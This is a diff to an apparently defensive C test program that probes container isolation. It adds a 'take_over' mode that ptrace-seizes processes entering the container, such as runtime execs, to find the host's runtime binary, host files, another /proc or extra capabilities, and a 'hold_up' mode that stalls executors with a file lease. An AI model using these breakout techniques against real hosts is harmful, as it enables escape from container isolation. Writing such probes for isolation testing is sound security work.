@@ -3,12 +3,15 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <grp.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mount.h>
+#include <sys/ptrace.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -190,6 +193,113 @@ static int shocker(void)
     return syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY) >= 0 ? 0 : 1;
 }
 
+static unsigned long long permitted(const char *process)
+{
+    char path[64], line[256];
+    unsigned long long set = 0;
+    snprintf(path, sizeof path, "/proc/%s/status", process);
+    FILE *file = fopen(path, "r");
+    while (file && fgets(line, sizeof line, file))
+        sscanf(line, "CapPrm: %llx", &set);
+    if (file)
+        fclose(file);
+    return set;
+}
+
+// Whether a process has something of the host's: the runtime as its program, the host's files in reach of its root, working directory or descriptors, the host's /proc, or more
+// capabilities than this one.
+static int has_loot(int pid, const char *host_path, long size, int is_ours)
+{
+    static const char *const links[] = { "root", "cwd" };
+    char path[8192], name[16], up[256];
+    struct stat stat, own_proc;
+    int found = 0;
+    snprintf(path, sizeof path, "/proc/%d/exe", pid);
+    int fd = open(path, O_RDONLY);
+    if (fd >= 0 && !fstat(fd, &stat) && stat.st_size == size && (found = 1))
+        printf("found the runtime: %s\n", path);
+    close(fd);
+    for (int i = 0; i < 2; i++) {
+        *up = 0;
+        for (int k = 0; k < 12; k++, strcat(up, "/.."))
+            if (snprintf(path, sizeof path, "/proc/%d/%s%s%s", pid, links[i], up, host_path), !access(path, F_OK)) {
+                printf("found the host: %s\n", path);
+                found = 1;
+                break;
+            }
+    }
+    lstat("/proc/.", &own_proc);
+    snprintf(path, sizeof path, "/proc/%d/fd", pid);
+    DIR *fds = opendir(path);
+    for (struct dirent *entry; fds && (entry = readdir(fds));) {
+        snprintf(path, sizeof path, "/proc/%d/fd/%s/.", pid, entry->d_name);
+        if (*entry->d_name == '.' || lstat(path, &stat))
+            continue;
+        snprintf(path, sizeof path, "/proc/%d/fd/%s/version", pid, entry->d_name);
+        if (stat.st_dev != own_proc.st_dev && !access(path, F_OK) && (found = 1))
+            printf("found another proc: %s\n", path);
+        snprintf(path, sizeof path, "/proc/%d/fd/%s%s", pid, entry->d_name, host_path);
+        if (!access(path, F_OK) && (found = 1))
+            printf("found the host: %s\n", path);
+    }
+    if (fds)
+        closedir(fds);
+    snprintf(name, sizeof name, "%d", pid);
+    unsigned long long more = permitted(name) & ~permitted("self");
+    if (is_ours && more && (found = 1))
+        printf("found capabilities: %llx of process %d\n", more, pid);
+    return found;
+}
+
+// Takes over each process that comes into this pid namespace, as soon as it can, and looks at what it has.
+static int take_over(const char *host_path, long size, int seconds)
+{
+    time_t end = time(0) + seconds;
+    int next = getpid() + 1, found = 0, seen = 0, taken = 0;
+    while (time(0) < end)
+        for (int pid = next; pid < next + 4; pid++) {
+            int is_ours = !ptrace(PTRACE_SEIZE, pid, 0, 0);
+            if (!is_ours && errno == ESRCH)
+                continue;
+            next = pid + 1;
+            seen++;
+            taken += is_ours;
+            if (is_ours && !ptrace(PTRACE_INTERRUPT, pid, 0, 0))
+                for (int i = 0; i < 300 && !waitpid(pid, 0, __WALL | WNOHANG); i++)
+                    usleep(1000);
+            found |= has_loot(pid, host_path, size, is_ours);
+            if (is_ours) {
+                ptrace(PTRACE_DETACH, pid, 0, 0);
+                continue;
+            }
+            for (int i = 0; i < 2000 && !kill(pid, 0); i++, usleep(1000)) // perhaps later
+                if (has_loot(pid, host_path, size, 0) && (found = 1))
+                    break;
+        }
+    printf("seen %d, taken %d\n", seen, taken);
+    return !found;
+}
+
+// Holds up who executes a file, for as long as a lease can (45 s). Ends at the signal that tells of somebody.
+static int hold_up(const char *path, int seconds)
+{
+    sigset_t set;
+    int signal;
+    sigemptyset(&set);
+    sigaddset(&set, SIGIO);
+    sigprocmask(SIG_BLOCK, &set, 0);
+    int fd = open(path, O_RDONLY);
+    if (fcntl(fd, F_SETLEASE, F_WRLCK)) {
+        perror(path);
+        return 2;
+    }
+    printf("waiting\n");
+    sigwait(&set, &signal);
+    printf("somebody is here\n");
+    sleep(seconds);
+    return 1;
+}
+
 int main(int argc, char **argv)
 {
     const char *what = argc > 1 ? argv[1] : "", *argument = argc > 2 ? argv[2] : "";
@@ -209,6 +319,10 @@ int main(int argc, char **argv)
         result = host_settings();
     if (!strcmp(what, "host_devices"))
         result = host_devices();
+    if (!strcmp(what, "take_over"))
+        result = take_over(argument, argc > 3 ? atol(argv[3]) : 0, argc > 4 ? atoi(argv[4]) : 5);
+    if (!strcmp(what, "hold_up"))
+        result = hold_up(argument, argc > 3 ? atoi(argv[3]) : 2);
     if (!strcmp(what, "shocker"))
         result = shocker();
     return result == 1 ? 42 : result;
